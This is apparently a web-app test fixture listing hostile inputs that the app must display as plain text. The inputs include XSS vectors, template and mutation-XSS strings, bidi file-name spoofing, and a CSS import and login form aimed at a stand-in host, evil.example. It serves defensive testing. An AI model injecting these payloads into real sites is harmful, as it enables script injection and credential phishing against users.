// What hostile citizens put into names, texts and file names. Each must be shown as the text that it is.
export const payloads = [
  `<script>window.loketComplains("script")</script>`,
  `<img src=x onerror='window.loketComplains("onerror")'>`,
  `"><svg onload=window.loketComplains("svg")>`,
  `<iframe srcdoc="<script>parent.loketComplains('frame')</script>"></iframe>`,
  `<a href="javascript:window.loketComplains('link')">klik di sini</a>`,
  `javascript:window.loketComplains("url")//https://ojk.go.example`,
  `<style>@import "https://evil.example/x.css"; * { display: none }</style>`,
  `<base href="https://evil.example/"><form action="https://evil.example"><button>Masuk</button></form>`,
  `{{constructor.constructor("window.loketComplains('template')")()}}`,
  `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.loketComplains('mxss')&gt;">`,
  `\u202Egpj.exe\u202C dana-mekar\u2066.top\u2069`,
  `&lt;b&gt;bukan tebal&lt;/b&gt; &amp; <!-- komentar --> ]]>`,
  `' onfocus='window.loketComplains("attribute")' autofocus='`,
  `https://dana-mekar.top/masuk?x=<b>1</b>`,
  `${"a".repeat(3000)}`,
];
